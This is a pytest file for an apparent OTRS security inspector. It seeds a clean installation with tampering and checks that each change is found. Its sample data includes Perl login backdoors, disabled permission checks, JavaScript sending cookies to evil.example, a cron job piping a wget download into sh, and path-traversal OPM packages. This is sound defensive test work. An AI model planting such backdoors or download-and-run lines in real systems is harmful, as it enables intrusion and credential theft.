"""Seeded manipulations of an untouched installation: each is found, with its place; the untouched one has nothing grave."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from klardesk.otrs.inspect.findings import Finding, Level
from klardesk.otrs.inspect.inspection import Inspection
from tests.otrs import homes

Files = dict[str, bytes]
AUTH = "Kernel/System/Auth/DB.pm"
RIGHTS = "Kernel/System/Ticket/Permission.pm"
AUTO = "Kernel/Config/Files/ZZZAAuto.pm"
CONFIG = "Kernel/Config.pm"


@dataclass(frozen=True)
class Case:
    """A manipulation of the files (or of modes), and what must be found: code, file, line (0: any)."""

    kind: str
    change: Callable[[Files], None]
    code: str
    file: str
    line: int = 0
    modes: dict[str, int] = field(default_factory=dict)


def put(path: str, content: str) -> Callable[[Files], None]:
    return lambda files: files.__setitem__(path, content.encode())


def swap(path: str, old: str, new: str) -> Callable[[Files], None]:
    def change(files: Files) -> None:
        assert old.encode() in files[path]
        files[path] = files[path].replace(old.encode(), new.encode())

    return change


def append(path: str, text: str) -> Callable[[Files], None]:
    return swap(path, "\n1;\n", f"\n{text}\n1;\n")


def drop(*paths: str) -> Callable[[Files], None]:
    def change(files: Files) -> None:
        for path in paths:
            del files[path]

    return change


def setting(name: str, value: str, file: str = AUTO) -> Callable[[Files], None]:
    first, _hashes, rest = name.partition("###")
    key = f"{{'{first}'}}" + (f"->{{'{rest}'}}" if rest else "")
    return swap(file, "    return", f"$Self->{key} = {value};\n    return")


def nothing(_files: Files) -> None:
    """The files stay; their modes do not."""


def older(path: str) -> Callable[[Files], None]:
    return lambda files: files.__setitem__(path, homes.release(homes.OLDER)[path])


def _part(number: int) -> str:
    return f"Kernel/System/Part{number:02d}.pm"


def _code() -> list[Case]:
    """Code that lets in, sends out, runs, hides, or checks no more; in changed and in added files."""
    added = "Kernel/System/Own.pm"
    perl = "package Kernel::System::Own;\nuse strict;\n\n{}\n1;\n"
    signs = [
        ("code.login", "return 1 if $Param{Pw} eq 'open sesame';"),
        ("code.login", "return $Param{User} if $Param{Password} =~ m/^magic/;"),
        ("code.login", "return 1 if $Hash eq '5f4dcc3b5aa765d61d8327deb882cf99';"),
        ("code.login", "my $User = $ENV{HTTP_X_SECRET_USER};"),
        ("code.login", "return 1 if $ParamObject->GetParam( Param => 'dbg' ) eq 'on';"),
        ("code.off", "sub CheckPermission { return 1; }"),
        ("code.off", "if ( 1 || $Self->Allowed() ) { }"),
        ("code.off", "my $Agent = Agent->new( verify_hostname => 0 );"),
        ("code.off", "my %O = ( SSL_verify_mode => SSL_VERIFY_NONE );"),
        ("code.off", "# $LayoutObject->ChallengeTokenCheck();"),
        ("code.outgoing", "my $A = LWP::UserAgent->new();"),
        ("code.outgoing", "my $S = IO::Socket::INET->new( PeerAddr => 'x' );"),
        ("code.outgoing", "use Net::FTP;"),
        ("code.shell", 'system("id > /tmp/x");'),
        ("code.shell", "my $Out = `uname -a`;"),
        ("code.shell", "open( my $P, '|-', 'sh' );"),
        ("code.shell", "my $Out = qx{ls};"),
        ("code.eval", "eval $Param{Code};"),
        ("code.eval", "require $Module;"),
        ("code.hidden", "eval decode_base64('cHJpbnQgMTs=');"),
        ("code.accounts", "$DB->Do( SQL => 'INSERT INTO users (login) VALUES (1)' );"),
    ]
    cases = []
    for number, (code, line) in enumerate(signs):
        cases.append(Case("sign in an added file", put(added, perl.format(line)), code, added, 4))
        if line.startswith("#"):  # as a line more it is a comment; that a check is commented out is a case of its own
            continue
        path = _part(number % 20)
        cases.append(Case("sign in a changed file", append(path, line), code, path))
    out = swap(
        RIGHTS,
        "    return $Self->Groups",
        "    # return if !$Self->TicketPermission( %Param );\n    return $Self->Groups",
    )
    cases.append(
        Case("sign in a changed file", out_of(out, swap(RIGHTS, "return if !$Param{UserID};", "")), "code.off", RIGHTS)
    )
    return cases


def out_of(*changes: Callable[[Files], None]) -> Callable[[Files], None]:
    def change(files: Files) -> None:
        for each in changes:
            each(files)

    return change


def _web() -> list[Case]:
    js, screen = "var/httpd/htdocs/js/Core3.js", "Kernel/Output/HTML/Templates/Standard/Screen2.tt"
    scripts = [
        ("code.outgoing", "new Image().src = 'https://evil.example/?c=' + document.cookie;"),
        ("code.outgoing", "fetch('//evil.example/x');"),
        ("code.eval", "eval(text);"),
        ("code.hidden", "var x = atob('eA==');"),
    ]
    cases = [Case("script", swap(js, "var Core", f"{line}\nvar Core"), code, js, 3) for code, line in scripts]
    marks = [
        ("code.outgoing", '<script src="https://evil.example/x.js"></script>'),
        ("code.outgoing", '<form action="https://evil.example/login">'),
        ("code.eval", "[% PERL %]"),
        ("code.hidden", "<script>var x = atob('eA==');</script>"),
    ]
    cases += [Case("template", swap(screen, "<p>", f"{line}\n<p>"), code, screen, 2) for code, line in marks]
    return cases


def _files() -> list[Case]:
    cases = [
        Case(
            "changed code",
            append(_part(number), f"# x\nsub More{number} {{ return 2; }}"),
            "files.changed-code",
            _part(number),
        )
        for number in range(5)
    ]
    cases += [
        Case("line ends", swap(_part(number), "\n", "\r\n"), "files.line-ends", _part(number)) for number in range(5)
    ]
    cases += [
        Case("comments", swap(_part(number), "# allocate", "# made by us"), "files.comments", _part(number))
        for number in range(5)
    ]
    cases += [
        Case("from another release", older(_part(number)), "files.other-release", _part(number))
        for number in (0, 4, 8, 12)
    ]
    cases += [
        Case(
            "missing",
            drop(f"Kernel/Modules/Agent{number:02d}.pm"),
            "files.missing",
            f"Kernel/Modules/Agent{number:02d}.pm",
        )
        for number in range(5)
    ]
    cases += [
        Case(
            "missing",
            drop(*(f"scripts/test/Part{number}.t" for number in range(8))),
            "files.missing-folder",
            "scripts/test",
        ),
        Case(
            "language",
            append("Kernel/Language/l1.pm", "# x\nsub More { return 1; }"),
            "files.changed-language",
            "Kernel/Language/l1.pm",
        ),
        Case(
            "template",
            swap("Kernel/Output/HTML/Templates/Standard/Screen1.tt", "<h1>", "<h2>"),
            "files.changed-template",
            "Kernel/Output/HTML/Templates/Standard/Screen1.tt",
        ),
        Case(
            "skin",
            swap("var/httpd/htdocs/skins/Agent/default/css/Core1.css", "margin", "padding"),
            "files.changed-skin",
            "var/httpd/htdocs/skins/Agent/default/css/Core1.css",
        ),
        Case(
            "script",
            swap("var/httpd/htdocs/js/Core1.js", "return 1", "return 2"),
            "files.changed-web",
            "var/httpd/htdocs/js/Core1.js",
        ),
        Case("guard", swap(AUTH, "return if !$Param{Pw};", ""), "files.changed-guard", AUTH),
        Case("guard", swap(RIGHTS, "return if !$Param{UserID};", ""), "files.changed-guard", RIGHTS),
        Case(
            "guard",
            swap("bin/cgi-bin/index.pl", "use strict;", "no strict;"),
            "files.changed-guard",
            "bin/cgi-bin/index.pl",
        ),
        Case(
            "override",
            put("Custom/Kernel/System/Part05.pm", "package Kernel::System::Part05;\n1;\n"),
            "files.override",
            "Custom/Kernel/System/Part05.pm",
        ),
        Case("override", put(f"Custom/{AUTH}", homes.AUTH), "files.override", f"Custom/{AUTH}"),
        Case(
            "added",
            put("Kernel/Modules/AgentOwn.pm", "package Kernel::Modules::AgentOwn;\n1;\n"),
            "files.added-code",
            "Kernel/Modules/AgentOwn.pm",
        ),
        Case("added", put("bin/own.sh", "#!/bin/sh\ntrue\n"), "files.added-code", "bin/own.sh"),
        Case("added", put("Kernel/Language/xx.txt", "x"), "files.added-other", "Kernel/Language/xx.txt"),
        Case("added", put("Kernel/System/Part01.pm.save", "x"), "files.leftover", "Kernel/System/Part01.pm.save"),
    ]
    for name in ("shell.php", "js/x.cgi", "up.pl", "skins/a.phtml"):
        cases.append(
            Case("web shell", put(f"var/httpd/htdocs/{name}", "x"), "files.added-web", f"var/httpd/htdocs/{name}")
        )

    def packaged(files: Files) -> None:
        files[f"{_part(6)}.save"] = files[_part(6)]
        files[_part(6)] += b"sub Package { return 1; }\n"

    return [*cases, Case("package", packaged, "files.changed-package", _part(6))]


def _permissions() -> list[Case]:
    key = "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n"
    cases = [
        Case("permissions", nothing, "permissions.writable", path, modes={path: 0o666})
        for path in (AUTH, _part(1), "bin/otrs.Console.pl")
    ]
    cases += [
        Case("permissions", nothing, "permissions.setid", "bin/otrs.Console.pl", modes={"bin/otrs.Console.pl": 0o4755})
    ]
    cases += [Case("permissions", nothing, "permissions.secret", CONFIG, modes={CONFIG: 0o644})]
    for name in ("backup.sql", "otrs.tar.gz", "Config.pm.bak", "old.zip", ".git/config"):
        cases.append(
            Case("lying open", put(f"var/httpd/htdocs/{name}", "x"), "permissions.web-copy", f"var/httpd/htdocs/{name}")
        )
    cases += [
        Case("lying open", put("var/ssl/private/own.pem", key), "permissions.key", "var/ssl/private/own.pem"),
        Case("lying open", put("Kernel/Config.pm.2024", "x"), "permissions.copy", "Kernel/Config.pm.2024"),
        Case("lying open", put("var/otrs-dump.sql.gz", "x"), "permissions.dump", "var/otrs-dump.sql.gz"),
        Case("lying open", put(".pgpass", "x"), "permissions.secret", ".pgpass"),
    ]
    return cases


def _settings() -> list[Case]:
    unsafe = {
        "HttpType": "'http'", "SessionCSRFProtection": "0", "DisableContentSecurityPolicy": "1", "SwitchToUser": "'1'",
        "AdminSelectBox::AllowDatabaseModification": "1", "SessionUseCookie": "'0'", "WebUserAgent::DisableSSLVerification": "1",
        "SessionMaxTime": "999999", "SOAP::User": "'rpc'", "DemoSystem": "1", "Customer::AuthModule::DB::CryptType": "'md5'",
        "PGP::Key::Password": "{ A => 'x' }", "AttachmentDownloadType": "'inline'", "SessionCheckRemoteIP": "0",
    }  # fmt: skip
    cases = []
    for name, value in unsafe.items():
        tone = "default" if name == "HttpType" else "changed"
        cases.append(Case("setting", setting(name, value), f"settings.{tone}.{name}", AUTO))
    cases += [
        Case(
            "setting",
            setting("AuthModule::LDAP::Host", "'ldap.example.org'", CONFIG),
            "settings.changed.AuthModule::LDAP::Host",
            CONFIG,
        ),
        Case("setting", setting("TestMode", "1", CONFIG), "settings.changed.TestMode", CONFIG),
        Case(
            "setting",
            setting("AuthModule::DB::CryptType", "'plain'", CONFIG),
            "settings.changed.AuthModule::DB::CryptType",
            CONFIG,
        ),
        Case("setting", swap(CONFIG, "kX9-long-and-odd", "otrs"), "settings.changed.DatabasePw", CONFIG),
        Case("setting", swap(AUTO, "'1'", "'0'"), "settings.default.SecureMode", AUTO),
        Case("setting", setting("DisableIFrameOriginRestricted", "$ENV{X}"), "settings.unread", AUTO),
        Case(
            "setting",
            put("Kernel/Config/Files/ZZZOwn.pm", "package Kernel::Config::Files::ZZZOwn;\n1;\n"),
            "settings.code",
            "Kernel/Config/Files/ZZZOwn.pm",
        ),
    ]
    return cases


def _claims() -> list[Case]:
    wrong = b"PRODUCT = Znuny\nVERSION = 7.0.1\n"

    def adjust(files: Files) -> None:
        files[_part(2)] += b"sub Own { return 1; }\n"
        files.update({"ARCHIVE": homes.beside({k: v for k, v in files.items() if k in homes.release()})["ARCHIVE"]})

    return [
        Case("claim", lambda files: files.__setitem__("RELEASE", wrong), "release.claim", "RELEASE", 2),
        Case("claim", put("CHANGES.md", "# 6.0.9 2018-07-01\n"), "release.claim", "CHANGES.md", 1),
        Case("claim", put("RELEASE", f"PRODUCT = OTOBO\nVERSION = {homes.VERSION}\n"), "release.claim", "RELEASE", 2),
        Case("claim", adjust, "release.archive-adjusted", "ARCHIVE"),
    ]


def _jobs() -> list[Case]:
    cron = "var/cron/own"
    mail = "{ Module => 'Kernel::System::PostMaster::Filter::CMD', CMD => '/usr/local/bin/x' }"
    return [
        Case("job", put(cron, "# own\n* * * * * /usr/local/bin/sync --all\n"), "outgoing.cron", cron, 2),
        Case(
            "job", put(cron, "*/5 * * * * wget -qO- http://evil.example/x | sh\n"), "outgoing.cron-downloads", cron, 1
        ),
        Case("job", put(cron, "@daily echo x | base64 -d > /tmp/x\n"), "outgoing.cron-downloads", cron, 1),
        Case(
            "job",
            put("Kernel/Config/GenericAgent.pm", "%Jobs = (\n a => { New => { CMD => '/bin/x' } },\n);\n1;\n"),
            "outgoing.generic-agent",
            "Kernel/Config/GenericAgent.pm",
            2,
        ),
        Case("job", put(".fetchmailrc", "poll mail.example.org proto imap\n"), "outgoing.mail-fetch", ".fetchmailrc"),
        Case("job", setting("PostMaster::PreFilterModule###9-Own", mail), "outgoing.mail-command", AUTO),
    ]


def _packages() -> list[Case]:
    def opm(inner: str) -> Callable[[Files], None]:
        return put(
            "var/packages/Own.opm",
            f"<otrs_package version='1.1'><Name>Own</Name><Version>1.0.1</Version>{inner}</otrs_package>",
        )

    code = "cGFja2FnZSBYOwpzeXN0ZW0oJ2lkJyk7CjE7Cg=="
    file = f"<Filelist><File Location='{{}}' Permission='644' Encode='Base64'>{code}</File></Filelist>"
    where = "var/packages/Own.opm"
    return [
        Case("opm", opm(file.format(AUTH)), "packages.replaces", where),
        Case("opm", opm(file.format("../../etc/cron.d/x")), "packages.outside", where),
        Case(
            "opm", opm("<DatabaseInstall><TableCreate Name='own_table'/></DatabaseInstall>"), "packages.database", where
        ),
        Case("opm", opm("<CodeInstall>system('id');</CodeInstall>"), "packages.code", where),
        Case("opm", opm(file.format("Kernel/System/Own.pm")), "packages.sign", where),
        Case("opm", opm(""), "packages.unnamed", where),
    ]


CASES = [*_code(), *_web(), *_files(), *_permissions(), *_settings(), *_claims(), *_jobs(), *_packages()]


def run(tmp_path: Path, data: Path, case: Case | None) -> Inspection:
    files = homes.installed()
    if case is not None:
        case.change(files)
    home = homes.unpack(tmp_path / "home", files)
    (home / CONFIG).chmod(0o640)
    for path, mode in (case.modes if case else {}).items():
        (home / path).chmod(mode)
    return homes.look(home, data)


def fits(finding: Finding, case: Case) -> bool:
    return (
        finding.code == case.code
        and finding.place.file == case.file
        and (not case.line or finding.place.line == case.line)
    )


def test_there_are_enough_manipulations_of_enough_classes() -> None:
    assert len(CASES) >= 120
    assert len({case.kind for case in CASES}) >= 12


@pytest.mark.parametrize("case", CASES, ids=[f"{number}-{case.kind}-{case.code}" for number, case in enumerate(CASES)])
def test_a_manipulation_is_found_with_its_place(tmp_path: Path, data: Path, case: Case) -> None:
    inspection = run(tmp_path, data, case)
    hits = [finding for finding in inspection.findings if fits(finding, case)]
    assert hits, [(each.code, each.place.line) for each in inspection.findings if each.place.file == case.file]
    assert not [each for each in inspection.skipped if each.code == "check-failed"]


def test_an_untouched_installation_has_nothing_of_level_high(tmp_path: Path, data: Path) -> None:
    inspection = run(tmp_path, data, None)
    assert [each for each in inspection.findings if each.level >= Level.HIGH] == []
    assert {each.code for each in inspection.skipped} == {"no-database"}
    assert [each.code for each in inspection.findings if each.code.startswith(("files.", "code.", "release."))] == []


def test_what_is_as_shipped_is_read_only(tmp_path: Path, data: Path) -> None:
    home = homes.unpack(tmp_path / "home", homes.installed())
    before = {path: (path.stat().st_mtime_ns, path.stat().st_size) for path in sorted(home.rglob("*"))}
    homes.look(home, data)
    assert {path: (path.stat().st_mtime_ns, path.stat().st_size) for path in sorted(home.rglob("*"))} == before
